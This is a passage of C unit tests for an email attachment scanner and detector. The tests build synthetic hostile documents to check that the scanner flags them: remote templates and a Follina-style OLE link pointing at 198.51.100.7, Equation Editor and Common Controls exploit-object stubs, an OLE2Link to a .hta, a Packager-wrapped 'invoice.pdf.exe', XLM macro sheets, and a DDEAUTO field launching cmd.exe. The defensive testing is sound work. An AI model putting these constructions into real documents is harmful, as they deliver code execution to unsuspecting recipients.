    b_put(&one, "\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac", 16);
    b_le64(&one, pe.len);
    b_zero(&one, 12);
    b_put(&one, pe.p, pe.len);
    scan(w, one.p, one.len, one.len, &r);
    assert_int_equal(r.kind, ZS_K_ONENOTE);
    assert_true(r.flags & ZS_F_CONTAINER);
    assert_true(r.flags & ZS_F_EXECUTABLE);
    assert_non_null(item(&r, "embedded file 1"));
    for (size_t k = 0; k < one.len; k += 7)
        scan(w, one.p, k, one.len, &r);
    b_free(&one);
    b_free(&pe);
    b_free(&iso);
    b_free(&lnk);
    zs_work_free(w);
}

/* zs_worth_scanning admits what zs_scan can find something in, and (its first-byte test)
 * turns the rest away: ordinary content, and other formats whose signature comes first. A
 * PDF is admitted with its header at byte 0 only. */
static void test_worth_scanning(void **state)
{
    (void)state;
    struct buf pe = mk_pe(512, false), elf = mk_elf(), lnk = mk_lnk();
    assert_true(zs_worth_scanning(pe.p, pe.len));
    assert_true(zs_worth_scanning(elf.p, elf.len));
    assert_true(zs_worth_scanning(lnk.p, lnk.len));
    static const struct {
        const char *b;
        size_t n;
        bool worth;
    } rows[] = {
        {"MZ\x90\0", 4, true},
        {"\xfe\xed\xfa\xce\0\0\0\0", 8, true},
        {"\xfe\xed\xfa\xcf\0\0\0\0", 8, true},
        {"\xce\xfa\xed\xfe\0\0\0\0", 8, true},
        {"\xcf\xfa\xed\xfe\0\0\0\0", 8, true},
        {"\xca\xfe\xba\xbe\0\0\0\2", 8, true},
        {"\xca\xfe\xba\xbe\0\0\0\x41", 8, false}, /* a Java class */
        {"PK\3\4\x14\0", 6, true},
        {"PK\5\6\0\0", 6, true},
        {"PK\7\x08PK\3\4", 8, true},
        {"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8, true},
        {"Rar!\x1a\x07\x01\0", 8, true},
        {"7z\xbc\xaf\x27\x1c\0\4", 8, true},
        {"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3", 16, true},
        {"#@~^XhQAAA==", 12, true},
        {"#!/bin/sh\n", 10, false},
        {"\x89PNG\r\n\x1a\n", 8, false},
        {"\xff\xd8\xff\xe0", 4, false},
        {"GIF89a", 6, false},
        {"\x1f\x8b\x08\0", 4, false},
        {"%PDF-1.7\n", 9, true}, /* launch actions, embedded files */
        {"junk\n%PDF-1.7\n", 14, false}, /* a reader takes it; the gate does not look */
        {"%!PS-Adobe-3.0", 14, false},
        {"<!DOCTYPE html>", 15, false},
        {"{\"a\":1}", 7, false},
        {"Mozilla", 7, false}, /* 'M' but not MZ */
        {"", 0, false},
    };
    for (size_t i = 0; i < MM_ARRAY_LEN(rows); i++)
        TC_EQ(rows[i].b, zs_worth_scanning((const uint8_t *)rows[i].b, rows[i].n), rows[i].worth);
    tc_done();
    /* a disk image descriptor 32 KiB in: admitted behind text, not behind another format's
     * signature (that format is what the bytes are) */
    struct buf iso = {0};
    b_put(&iso, "<html>", 6);
    b_zero(&iso, 0x8000 - iso.len);
    b_u8(&iso, 1);
    b_put(&iso, "BEA01", 5);
    assert_true(zs_worth_scanning(iso.p, iso.len));
    assert_false(zs_worth_scanning(iso.p, iso.len - 1));
    memcpy(iso.p, "\x1f\x8b\x08\0", 4);
    assert_false(zs_worth_scanning(iso.p, iso.len));
    b_free(&iso);
    b_free(&lnk);
    b_free(&elf);
    b_free(&pe);
}

/* Every prefix and a few bit flips of a nested archive: nothing read out of bounds. */
static void test_scan_prefixes(void **state)
{
    (void)state;
    zs_work_t *w = work(3, 64, 64 << 10, 1 << 20);
    struct zs_result r;
    static const char *const vba_names[] = {"VBA", "_VBA_PROJECT"};
    static const uint8_t vba_types[] = {1, 2};
    struct buf ole = mk_ole(vba_names, vba_types, 2, NULL, false);
    struct buf pe = mk_pe(600, false);
    struct zipw z = {0};
    zip_add(&z, "[Content_Types].xml", (const uint8_t *)CT_MACRO, strlen(CT_MACRO), DEFL);
    zip_add(&z, "word/vbaProject.bin", ole.p, ole.len, DEFL);
    struct buf inner = zip_end(&z);
    zip_add(&z, "a.docm", inner.p, inner.len, DEFL);
    zip_add(&z, "b.exe", pe.p, pe.len, STORED);
    struct buf a = zip_end(&z);
    for (size_t k = 0; k <= a.len; k++)
        scan(w, a.p, k, a.len, &r);
    uint32_t seed = 12345;
    for (int i = 0; i < 3000; i++) {
        struct buf c = {0};
        b_put(&c, a.p, a.len);
        for (int f = 0; f < 4; f++) {
            seed = seed * 1103515245u + 12345u;
            c.p[(seed >> 8) % c.len] ^= (uint8_t)(1u << ((seed >> 4) & 7));
        }
        scan(w, c.p, c.len, c.len, &r);
        b_free(&c);
    }
    b_free(&ole);
    b_free(&pe);
    b_free(&inner);
    b_free(&a);
    zs_work_free(w);
}

/* ---- the detector --------------------------------------------------------------------- */

#define MAX_AL 64

struct col {
    size_t n;
    uint32_t sid[MAX_AL];
    bool update[MAX_AL];
    struct mm_addr src[MAX_AL], dst[MAX_AL];
    uint16_t sport[MAX_AL], dport[MAX_AL];
    char *json[MAX_AL];
};

static bool collect(void *u, const struct det_alert *a)
{
    struct col *c = u;
    assert_true(c->n < MAX_AL);
    c->sid[c->n] = a->rule->sid;
    assert_int_equal(a->rule->gid, DTR_GID);
    c->src[c->n] = a->src;
    c->dst[c->n] = a->dst;
    c->sport[c->n] = a->sport;
    c->dport[c->n] = a->dport;
    c->json[c->n] = strndup(a->mamori_json, a->mamori_len);
    c->update[c->n] = strstr(c->json[c->n], "\"update\":true") != NULL;
    c->n++;
    return true;
}

static void col_reset(struct col *c)
{
    for (size_t i = 0; i < c->n; i++)
        free(c->json[i]);
    memset(c, 0, sizeof *c);
}

static dtr_host_t *host(struct col *c, const struct dtr_setting *s, size_t n)
{
    assert_string_equal(dt_attachment_ops.name, "attachment"); /* links the detector in */
    struct dtr_config cfg;
    dtr_config_defaults(&cfg);
    cfg.settings = s;
    cfg.n_settings = n;
    cfg.update_interval_ns = 10 * MIN_NS;
    char err[512] = "";
    dtr_host_t *h = dtr_new(&cfg, NULL, collect, c, err, sizeof err);
    if (!h)
        fail_msg("dtr_new: %s", err);
    return h;
}

/* A TCP flow from 203.0.113.<c> (client) to 192.168.10.<s>:<port>. */
static struct flow mk_flow(uint64_t id, uint8_t c, uint8_t s, uint16_t port)
{
    struct flow f;
    memset(&f, 0, sizeof f);
    f.key.ip_ver = 4;
    f.key.proto = 6;
    f.key.a[0] = 203, f.key.a[1] = 0, f.key.a[2] = 113, f.key.a[3] = c;
    f.key.b[0] = 192, f.key.b[1] = 168, f.key.b[2] = 10, f.key.b[3] = s;
    f.key.port_a = 40000;
    f.key.port_b = port;
    f.client_is_a = true;
    f.flow_id = id;
    return f;
}

static struct mime_email the_email = {
    .from = "keiri@trade-partner.example",
    .to = {"sato@sakura-trading.example"},
    .n_to = 1,
    .subject = "Re: invoice",
    .message_id = "<1@trade-partner.example>",
};

/* A file record as MIME hands it over (no SMTP envelope: POP3/IMAP-like). */
static struct app_file mk_file(enum app_proto proto, const char *name, const uint8_t *d,
                               size_t n, const char *ctype)
{
    struct app_file f;
    memset(&f, 0, sizeof f);
    f.proto = proto;
    f.name = (const uint8_t *)name;
    f.name_len = strlen(name);
    f.content_type = ctype;
    f.size = n;
    unsigned int len = 0;
    f.sha256_valid = EVP_Digest(d, n, f.sha256, &len, EVP_sha256(), NULL) == 1;
    f.head = d;
    f.head_len = n;
    f.email = &the_email;
    return f;
}

static void feed(dtr_host_t *h, const struct flow *fl, int dir, uint64_t ts,
                 const struct app_file *f)
{
    dtr_record(h, fl, dir, ts, APP_REC_FILE, f);
}

static bool has_str(const char *json, const char *s)
{
    return strstr(json, s) != NULL;
}

/* Scan a workbook file made of mk_workbook(at, macro, hs, encrypted). */
static void scan_workbook(zs_work_t *w, size_t at, bool macro, uint8_t hs, bool encrypted,
                          struct zs_result *r)
{
    struct buf wb = mk_workbook(at, macro, hs, encrypted);
    struct buf xls = mk_xls(&wb);
    scan(w, xls.p, xls.len, xls.len, r);
    b_free(&wb);
    b_free(&xls);
}

/* Excel 4.0 macro sheets in an Excel 97-2003 workbook: found through the Workbook stream's
 * sheet list, across a sector boundary; not in a workbook of worksheets, nor in an encrypted
 * one (its sheet types are encrypted too); a truncated file ends the read. */
static void test_scan_xlm(void **state)
{
    (void)state;
    zs_work_t *w = work(3, 256, 512 << 10, 4 << 20);
    struct zs_result r;
    /* the macro sheet's record header straddles the stream's first two sectors */
    scan_workbook(w, 510, true, 2, false, &r);
    assert_int_equal(r.kind, ZS_K_OLE);
    assert_int_equal(r.flags, ZS_F_MACRO | ZS_F_MACRO_XLM);
    assert_string_equal(r.desc, "Microsoft Excel 97-2003 workbook with Excel 4.0 macros");
    assert_non_null(strstr(r.note, "Excel 4.0 (XLM) macro sheet, very hidden"));

    static const struct {
        uint8_t hs;
        const char *note;
    } vis[] = {{0, "Excel 4.0 (XLM) macro sheet"}, {1, "macro sheet, hidden"}};
    for (size_t i = 0; i < MM_ARRAY_LEN(vis); i++) {
        scan_workbook(w, 100, true, vis[i].hs, false, &r);
        assert_int_equal(r.flags, ZS_F_MACRO | ZS_F_MACRO_XLM);
        assert_non_null(strstr(r.note, vis[i].note));
        assert_null(strstr(r.note, "very hidden"));
    }
    scan_workbook(w, 100, false, 0, false, &r);
    assert_int_equal(r.flags, 0);
    assert_string_equal(r.desc, "Microsoft Excel 97-2003 workbook");
    scan_workbook(w, 100, true, 2, true, &r); /* encrypted */
    assert_int_equal(r.flags, 0);

    /* the file cut before the stream's first sector: the chain ends the read */
    struct buf wb = mk_workbook(700, true, 2, false);
    struct buf xls = mk_xls(&wb);
    scan(w, xls.p, 1536, xls.len, &r);
    assert_int_equal(r.flags & ZS_F_MACRO, 0);
    assert_true(r.status & ZS_S_TRUNCATED);
    scan(w, xls.p, xls.len, xls.len, &r);
    assert_true(r.flags & ZS_F_MACRO_XLM);

    /* the detector says which macros */
    struct col c = {0};
    dtr_host_t *h = host(&c, NULL, 0);
    struct flow f = mk_flow(300, 120, 25, 25);
    struct app_file af = mk_file(APP_PROTO_SMTP, "invoice.xls", xls.p, xls.len, NULL);
    feed(h, &f, FLOW_TOSERVER, T0, &af);
    assert_int_equal(c.n, 1);
    assert_int_equal(c.sid[0], 6004);
    assert_true(has_str(c.json[0], "an Excel 4.0 (XLM) macro sheet"));
    assert_true(has_str(c.json[0], "with Excel 4.0 macros"));
    col_reset(&c);
    dtr_free(h);
    b_free(&wb);
    b_free(&xls);
    zs_work_free(w);
}

/* ---- active content: remote templates and OLE links, RTF objects ----------------------- */

#define RNS "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

/* A .docx whose word/_rels/settings.xml.rels names `target` as its template. */
static struct buf mk_docx_template(const char *target)
{
    char rels[1024];
    snprintf(rels, sizeof rels,
             "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/"
             "package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"" RNS
             "attachedTemplate\" Target=\"%s\" TargetMode=\"External\"/></Relationships>",
             target);
    struct zipw z = {0};
    zip_add(&z, "[Content_Types].xml", (const uint8_t *)CT_PLAIN, strlen(CT_PLAIN), DEFL);
    zip_add(&z, "word/document.xml", (const uint8_t *)"<w:document/>", 13, DEFL);
    zip_add(&z, "word/settings.xml", (const uint8_t *)"<w:settings/>", 13, DEFL);
    zip_add(&z, "word/_rels/settings.xml.rels", (const uint8_t *)rels, strlen(rels), DEFL);
    return zip_end(&z);
}

/* An RTF document embedding one OLE 1.0 object of class cls with the native data given, as
 * Word writes it (hex, 128 digits a line), after `before` (RTF text). */
static struct buf mk_rtf(const char *before, const char *cls, const uint8_t *native, size_t n)
{
    struct buf o = {0}, r = {0};
    b_le32(&o, 0x00000501);
    b_le32(&o, 2);
    b_le32(&o, (uint32_t)strlen(cls) + 1);
    b_put(&o, cls, strlen(cls) + 1);
    b_le32(&o, 0);
    b_le32(&o, 0);
    b_le32(&o, (uint32_t)n);
    b_put(&o, native, n);
    char head[512];
    snprintf(head, sizeof head,
             "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}%s{\\object\\objemb\\objupdate"
             "{\\*\\objclass %s}\\objw300\\objh200{\\*\\objdata\r\n", before, cls);
    b_put(&r, head, strlen(head));
    for (size_t i = 0; i < o.len; i++) {
        char hx[4];
        snprintf(hx, sizeof hx, "%02x", o.p[i]);
        b_put(&r, hx, 2);
        if (i % 64 == 63)
            b_put(&r, "\r\n", 2);
    }
    b_put(&r, "}{\\result{\\pict\\wmetafile8 0100}}}\\par}", 38);
    b_free(&o);
    return r;
}

/* Packager native data carrying `name` with the bytes given. */
static struct buf mk_package(const char *name, const uint8_t *d, size_t n)
{
    struct buf b = {0};
    char src[128], tmp[160];
    snprintf(src, sizeof src, "C:\\Users\\kato\\Desktop\\%s", name);
    snprintf(tmp, sizeof tmp, "C:\\Users\\kato\\AppData\\Local\\Temp\\%s", name);
    b_le16(&b, 2);
    b_put(&b, name, strlen(name) + 1);
    b_put(&b, src, strlen(src) + 1);
    b_put(&b, "\0\0\3\0", 4);
    b_le32(&b, (uint32_t)strlen(tmp) + 1);
    b_put(&b, tmp, strlen(tmp) + 1);
    b_le32(&b, (uint32_t)n);
    b_put(&b, d, n);
    return b;
}

/* One row of a detector table: one alert of sid (none for 0) since `before`, whose JSON
 * holds each of want[0..3) (NULL ends the list). */
static void check_row(const struct col *c, size_t before, const char *name, uint32_t sid,
                      const char *const want[3])
{
    TC_EQ(name, c->n, before + (sid ? 1 : 0));
    if (!sid || c->n != before + 1)
        return;
    TC_EQ(name, c->sid[before], sid);
    for (size_t k = 0; k < 3 && want[k]; k++) {
        TC_CHECK(want[k], has_str(c->json[before], want[k]));
        if (!has_str(c->json[before], want[k]))
            fprintf(stderr, "  got %s\n", c->json[before]);
    }
}

/*
 * Documents that act when opened: a remote template in a .docx (not a local one), an Excel
 * 4.0 macro sheet in an .xlsx whose content types do not say so, and RTF objects: Equation
 * Editor, OLE2Link, a Packager executable, a Word document with macros; an RTF with a
 * harmless embedded workbook, and a plain one. Then the detector: sid 6007 with its reasons,
 * details and evidence; the packaged executable is 6001, the embedded macros 6004; the
 * benign documents are silent.
 */
static void test_scan_active(void **state)
{
    (void)state;
    zs_work_t *w = work(3, 256, 512 << 10, 4 << 20);
    struct zs_result r;
    const struct zs_item *it;

    struct buf tpl = mk_docx_template("http://198.51.100.7/t.dotm");
    scan(w, tpl.p, tpl.len, tpl.len, &r);
    assert_int_equal(r.kind, ZS_K_OOXML);
    assert_int_equal(r.flags, ZS_F_REMOTE);
    assert_string_equal(r.remote_kind, "template");
    assert_string_equal(r.remote_target, "http://198.51.100.7/t.dotm");
    it = need_item(&r, "word/_rels/settings.xml.rels");
    assert_int_equal(it->flags, ZS_F_REMOTE);
    assert_non_null(strstr(r.note, "remote template http://198.51.100.7/t.dotm"));
    struct buf local = mk_docx_template("file:///C:/Users/kato/AppData/Roaming/Microsoft/"
                                        "Templates/Normal.dotm");
    scan(w, local.p, local.len, local.len, &r);
    assert_int_equal(r.flags, 0);
    assert_string_equal(r.remote_kind, "");
    /* inside a ZIP, one level down */
    struct zipw z = {0};
    zip_add(&z, "order.docx", tpl.p, tpl.len, STORED);
    struct buf outer = zip_end(&z);
    scan(w, outer.p, outer.len, outer.len, &r);
    assert_true(r.flags & ZS_F_REMOTE);
    need_item(&r, "order.docx!/word/_rels/settings.xml.rels");

    /* Follina: an OLE object relationship behind 300 hyperlinks, in a part far larger than
     * the first look at an entry (4 KiB) */
    struct buf drels = {0};
    const char *rh = "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas."
                     "openxmlformats.org/package/2006/relationships\">";
    b_put(&drels, rh, strlen(rh));
    for (int i = 0; i < 300; i++) {
        char row[256];
        snprintf(row, sizeof row, "<Relationship Id=\"rId%d\" Type=\"" RNS "hyperlink\" "
                 "Target=\"https://www.example.com/p%d\" TargetMode=\"External\"/>", i + 10, i);
        b_put(&drels, row, strlen(row));
    }
    const char *ole = "<Relationship Id=\"rId996\" Type=\"" RNS "oleObject\" Target=\"http"
                      "://198.51.100.7/index.html!\" TargetMode=\"External\"/></Relationships>";
    b_put(&drels, ole, strlen(ole));
    assert_true(drels.len > 16384);
    zip_add(&z, "[Content_Types].xml", (const uint8_t *)CT_PLAIN, strlen(CT_PLAIN), DEFL);
    zip_add(&z, "word/document.xml", (const uint8_t *)"<w:document/>", 13, DEFL);
    zip_add(&z, "word/_rels/document.xml.rels", drels.p, drels.len, DEFL);
    struct buf follina = zip_end(&z);
    scan(w, follina.p, follina.len, follina.len, &r);
    assert_int_equal(r.flags, ZS_F_REMOTE);
    assert_string_equal(r.remote_kind, "OLE object");
    assert_string_equal(r.remote_target, "http://198.51.100.7/index.html!");
    b_free(&drels);
    b_free(&follina);

    /* XLM macro sheets in OOXML, found by the part's name */
    zip_add(&z, "[Content_Types].xml", (const uint8_t *)CT_PLAIN, strlen(CT_PLAIN), DEFL);
    zip_add(&z, "xl/workbook.xml", (const uint8_t *)"<workbook/>", 11, DEFL);
    zip_add(&z, "xl/macrosheets/sheet1.xml", (const uint8_t *)"<xm:macrosheet/>", 16, DEFL);
    struct buf xlsx = zip_end(&z);
    scan(w, xlsx.p, xlsx.len, xlsx.len, &r);
    assert_int_equal(r.flags, ZS_F_MACRO | ZS_F_MACRO_XLM);
    it = need_item(&r, "xl/macrosheets/sheet1.xml");
    assert_int_equal(it->flags, ZS_F_MACRO | ZS_F_MACRO_XLM);

    /* RTF: the Equation Editor */
    static const uint8_t eq[] = {0x1c, 0, 0, 0, 2, 0, 0x9e, 0xc4, 0xa9, 0, 0, 0, 0, 0, 0, 0};
    struct buf rtf_eq = mk_rtf("", "Equation.3", eq, sizeof eq);
    scan(w, rtf_eq.p, rtf_eq.len, rtf_eq.len, &r);
    assert_int_equal(r.kind, ZS_K_RTF);
    assert_int_equal(r.flags, ZS_F_EXPLOIT);
    assert_string_equal(r.exploit_class, "Equation.3");
    assert_int_equal(r.objects, 1);
    assert_string_equal(r.desc, "Rich Text Format document with an Equation Editor object");
    assert_non_null(strstr(r.note, "Equation Editor object (Equation.3), updated automatically"));
    need_item(&r, "Equation.3");
    /* MathType is another program */
    struct buf rtf_mt = mk_rtf("", "Equation.DSMT4", eq, sizeof eq);
    scan(w, rtf_mt.p, rtf_mt.len, rtf_mt.len, &r);
    assert_int_equal(r.flags, 0);
    assert_non_null(strstr(r.note, "embedded OLE object Equation.DSMT4"));
    /* a Common Controls ActiveX object (CVE-2012-0158): its class, in any case; a Forms 2.0
     * control is only noted */
    static const uint8_t ax[] = {0x2c, 0x9d, 0xb0, 0x3d, 0, 0, 0, 0, 0, 0, 0, 0};
    struct buf rtf_lv = mk_rtf("", "MSComctlLib.ListViewCtrl.2", ax, sizeof ax);
    scan(w, rtf_lv.p, rtf_lv.len, rtf_lv.len, &r);
    assert_int_equal(r.flags, ZS_F_EXPLOIT);
    assert_string_equal(r.exploit_class, "MSComctlLib.ListViewCtrl.2");
    assert_string_equal(r.desc, "Rich Text Format document with a Common Controls ActiveX object");
    assert_non_null(strstr(r.note, "Common Controls ActiveX object (MSComctlLib.ListViewCtrl.2)"));
    struct buf rtf_ts = mk_rtf("", "mscomctllib.TabStrip.2", ax, sizeof ax);
    scan(w, rtf_ts.p, rtf_ts.len, rtf_ts.len, &r);
    assert_int_equal(r.flags, ZS_F_EXPLOIT);
    struct buf rtf_cb = mk_rtf("", "Forms.CheckBox.1", ax, sizeof ax);
    scan(w, rtf_cb.p, rtf_cb.len, rtf_cb.len, &r);
    assert_int_equal(r.flags, 0);
    assert_non_null(strstr(r.note, "embedded OLE object Forms.CheckBox.1"));

    /* an Equation Editor object in OLE2: by its class id, or by its stream under another
     * class (a renamed RTF object), and as an OOXML embedding */
    static const uint8_t eq_clsid[16] = {0x02, 0xce, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0,
                                         0x46};
    static const char *const eqn_names[] = {"\001Ole", "\001CompObj"};
    static const uint8_t eqn_types[] = {2, 2};
    struct buf ole_eq = mk_ole(eqn_names, eqn_types, 2, eq_clsid, false);
    scan(w, ole_eq.p, ole_eq.len, ole_eq.len, &r);
    assert_int_equal(r.flags, ZS_F_EXPLOIT);
    assert_string_equal(r.exploit_class, "Equation.3");
    static const char *const eqs_names[] = {"\001CompObj", "Equation Native"};
    struct buf ole_eqs = mk_ole(eqs_names, eqn_types, 2, NULL, false);
    scan(w, ole_eqs.p, ole_eqs.len, ole_eqs.len, &r);
    assert_int_equal(r.flags, ZS_F_EXPLOIT);
    struct buf rtf_renamed = mk_rtf("", "Word.Document.8", ole_eqs.p, ole_eqs.len);
    scan(w, rtf_renamed.p, rtf_renamed.len, rtf_renamed.len, &r);
    assert_int_equal(r.flags, ZS_F_EXPLOIT);
    need_item(&r, "Word.Document.8");
    zip_add(&z, "[Content_Types].xml", (const uint8_t *)CT_PLAIN, strlen(CT_PLAIN), DEFL);
    zip_add(&z, "word/document.xml", (const uint8_t *)"<w:document/>", 13, DEFL);
    zip_add(&z, "word/embeddings/oleObject1.bin", ole_eqs.p, ole_eqs.len, DEFL);
    struct buf docx_eq = zip_end(&z);
    scan(w, docx_eq.p, docx_eq.len, docx_eq.len, &r);
    assert_int_equal(r.flags, ZS_F_EXPLOIT);
    it = need_item(&r, "word/embeddings/oleObject1.bin");
    assert_int_equal(it->flags, ZS_F_EXPLOIT);
    assert_non_null(strstr(r.note, "Equation Editor object (OLE)"));

    /* RTF: an OLE2Link, its URL in the moniker's UTF-16 text */
    struct buf link = {0};
    b_put(&link, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
    b_zero(&link, 100);
    const char *url = "http://198.51.100.7/doc.hta";
    for (size_t i = 0; url[i]; i++)
        b_le16(&link, (uint8_t)url[i]);
    b_zero(&link, 40);
    struct buf rtf_link = mk_rtf("", "OLE2Link", link.p, link.len);
    scan(w, rtf_link.p, rtf_link.len, rtf_link.len, &r);
    assert_int_equal(r.flags, ZS_F_REMOTE);
    assert_string_equal(r.remote_kind, "OLE2Link object");
    assert_string_equal(r.remote_target, url);

    /* RTF: a remote template, no objects */
    static const char rtf_tpl[] =
        "{\\rtf1\\ansi{\\*\\template http://198.51.100.7/t\\'2edot}{\\fonttbl}Hello\\par}";
    scan(w, (const uint8_t *)rtf_tpl, strlen(rtf_tpl), strlen(rtf_tpl), &r);
    assert_int_equal(r.flags, ZS_F_REMOTE);
    assert_string_equal(r.remote_target, "http://198.51.100.7/t.dot");
    assert_string_equal(r.desc, "Rich Text Format document with a remote template");

    /* RTF: a Packager object carrying an executable under a document's name */
    struct buf pe = mk_pe(1024, false);
    struct buf pkg = mk_package("invoice.pdf.exe", pe.p, pe.len);
    struct buf rtf_pkg = mk_rtf("", "Package", pkg.p, pkg.len);
    scan(w, rtf_pkg.p, rtf_pkg.len, rtf_pkg.len, &r);
    assert_int_equal(r.flags, ZS_F_EXECUTABLE | ZS_F_DISGUISED);
    it = need_item(&r, "Package!/invoice.pdf.exe");
    assert_int_equal(it->kind, ZS_K_PE);
    assert_non_null(strstr(r.note, "embedded package object: invoice.pdf.exe"));

    /* RTF: an embedded Word document with macros is looked into; a plain one is not news */
    static const char *const vba_names[] = {"WordDocument", "Macros", "VBA", "_VBA_PROJECT"};
    static const uint8_t vba_types[] = {2, 1, 1, 2};
    struct buf ole_vba = mk_ole(vba_names, vba_types, 4, NULL, false);
    struct buf rtf_vba = mk_rtf("", "Word.Document.8", ole_vba.p, ole_vba.len);
    scan(w, rtf_vba.p, rtf_vba.len, rtf_vba.len, &r);
    assert_int_equal(r.flags, ZS_F_MACRO);
    it = need_item(&r, "Word.Document.8");
    assert_int_equal(it->kind, ZS_K_OLE);
    static const char *const plain_names[] = {"Workbook"};
    static const uint8_t plain_types[] = {2};
    struct buf ole_plain = mk_ole(plain_names, plain_types, 1, NULL, false);
    struct buf rtf_plain = mk_rtf("Quarterly figures:\\par ", "Excel.Sheet.8", ole_plain.p,
                                  ole_plain.len);
    scan(w, rtf_plain.p, rtf_plain.len, rtf_plain.len, &r);
    assert_int_equal(r.flags, 0);
    assert_int_equal(r.n_items, 0);
    assert_string_equal(r.desc, "Rich Text Format document with an embedded object");
    /* a plain RTF; the header Word accepts */
    static const char plain[] = "{\\rtx1\\ansi Hello \\\\objdata world\\par}";
    scan(w, (const uint8_t *)plain, strlen(plain), strlen(plain), &r);
    assert_int_equal(r.kind, ZS_K_RTF);
    assert_int_equal(r.flags, 0);
    assert_int_equal(r.objects, 0);
    assert_true(zs_worth_scanning((const uint8_t *)plain, strlen(plain)));
    /* past the depth limit: the class still counts, the content is not opened */
    zs_work_t *w1 = work(1, 256, 512 << 10, 4 << 20);
    zip_add(&z, "a.rtf", rtf_eq.p, rtf_eq.len, STORED);
    zip_add(&z, "b.rtf", rtf_vba.p, rtf_vba.len, STORED);
    struct buf zrtf = zip_end(&z);
    scan(w1, zrtf.p, zrtf.len, zrtf.len, &r);
    assert_int_equal(r.flags, ZS_F_EXPLOIT);
    assert_true(r.status & ZS_S_LIMIT);
    need_item(&r, "a.rtf!/Equation.3");
    zs_work_free(w1);

    /* the detector */
    struct col c = {0};
    dtr_host_t *h = host(&c, NULL, 0);
    struct {
        const char *name;
        const struct buf *b;
        uint32_t sid; /* 0: no alert */
        const char *want[3];
    } rows[] = {
        {"order.docx", &tpl, 6007,
         {"\"reasons\":[\"remote_content\"]",
          "when opened, it loads a template from http://198.51.100.7/t.dotm",
          "\"remote\":{\"type\":\"template\",\"target\":\"http://198.51.100.7/t.dotm\"}"}},
        {"letter.docx", &local, 0, {NULL}},
        {"quote.rtf", &rtf_eq, 6007,
         {"\"reasons\":[\"exploit_object\"]", "CVE-2017-11882",
          "\"exploit_object\":\"Equation.3\""}},
        {"order.rtf", &rtf_lv, 6007,
         {"\"exploit_object\":\"MSComctlLib.ListViewCtrl.2\"",
          "it embeds an ActiveX control of the Windows Common Controls "
          "(MSComctlLib.ListViewCtrl.2, MSCOMCTL.OCX), whose flaws CVE-2012-0158",
          "\"reasons\":[\"exploit_object\"]"}},
        {"scan.rtf", &rtf_link, 6007,
         {"\"reasons\":[\"remote_content\"]",
          "fetches an OLE object from http://198.51.100.7/doc.hta",
          "\"type\":\"OLE2Link object\""}},
        {"payment.doc", &rtf_pkg, 6001,
         {"\"reasons\":[\"double_extension\",\"executable\"]",
          "it holds an executable (pe): Package!/invoice.pdf.exe", NULL}},
        {"memo.rtf", &rtf_vba, 6004, {"\"reasons\":[\"macro\"]", NULL}},
        {"figures.rtf", &rtf_plain, 0, {NULL}},
        {"spec.docx", &docx_eq, 6007,
         {"\"reasons\":[\"exploit_object\"]", "\"exploit_object\":\"Equation.3\"",
          "\"path\":\"word/embeddings/oleObject1.bin\",\"type\":\"ole\",\"reasons\":"
          "[\"exploit_object\"]"}},
        {"budget.xlsx", &xlsx, 6004,
         {"it contains an Excel 4.0 (XLM) macro sheet: xl/macrosheets/sheet1.xml", NULL}},
    };
    uint64_t ts = T0;
    for (size_t i = 0; i < MM_ARRAY_LEN(rows); i++) {
        size_t before = c.n;
        struct flow f = mk_flow(500 + i, 120, 25, 25);
        struct app_file af =
            mk_file(APP_PROTO_SMTP, rows[i].name, rows[i].b->p, rows[i].b->len, NULL);
        feed(h, &f, FLOW_TOSERVER, ts, &af);
        ts += S_NS;
        check_row(&c, before, rows[i].name, rows[i].sid, rows[i].want);
    }
    tc_done();
    col_reset(&c);
    dtr_free(h);
    struct buf *all[] = {&tpl,  &local,   &outer,   &xlsx,    &rtf_eq,    &rtf_mt,
                         &link, &rtf_link, &pe,     &pkg,     &rtf_pkg,   &ole_vba,
                         &rtf_vba, &ole_plain, &rtf_plain, &zrtf,  &ole_eq,    &ole_eqs,
                         &rtf_renamed, &docx_eq, &rtf_lv, &rtf_ts, &rtf_cb};
    for (size_t i = 0; i < MM_ARRAY_LEN(all); i++)
        b_free(all[i]);
    zs_work_free(w);
}

/*
 * DDE: a Word document whose body runs cmd.exe through a DDEAUTO field split over runs, far
 * past the first 4 KiB of its part (which is read whole); the same field in a header part;
 * an Excel workbook with a DDE link to cmd in an external link part; an RTF with a DDEAUTO
 * field; a CSV file with a DDE formula, alone and in a ZIP; a harmless DDE link to a workbook
 * is noted, not flagged, and a CSV with a SUM formula and pipes in its data is silent. Then
 * the detector: 6007 with the reason dde_command, its detail and the "dde" evidence; the
 * harmless ones silent.
 */
/* Word 97-2003 binary documents: a DDE field read through the piece table, with the table
 * stream in the mini stream and in ordinary sectors; a harmless field; an encrypted
 * document's text is not read; a piece table beyond the buffer. */
static void test_scan_doc_dde(void **state)
{
    (void)state;
    zs_work_t *w = work(3, 256, 512 << 10, 4 << 20);
    struct zs_result r;
    static const char text[] =
        "Please enable editing.\r\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k "
        "echo mamori-test\" \x14\x15\r";
    struct buf wd, tbl;
    for (int big = 0; big < 2; big++) {
        mk_word_streams(text, 6000, big ? 5000 : 700, true, &wd, &tbl);
        struct buf doc = mk_doc(&wd, &tbl, "1Table", DOC_PLAIN);
        scan(w, doc.p, doc.len, doc.len, &r);
        assert_int_equal(r.kind, ZS_K_OLE);
        assert_int_equal(r.flags, ZS_F_DDE);
        assert_string_equal(r.dde_app, "c:\\windows\\system32\\cmd.exe");
        assert_string_equal(r.dde_topic, "/k echo mamori-test");
        assert_true(r.dde_auto);
        assert_string_equal(r.desc, "Microsoft Word 97-2003 document with a DDE field that "
                                    "starts a program");
        assert_non_null(strstr(r.note, "DDE field, updated on opening, "
                                       "c:\\windows\\system32\\cmd.exe /k echo mamori-test"));
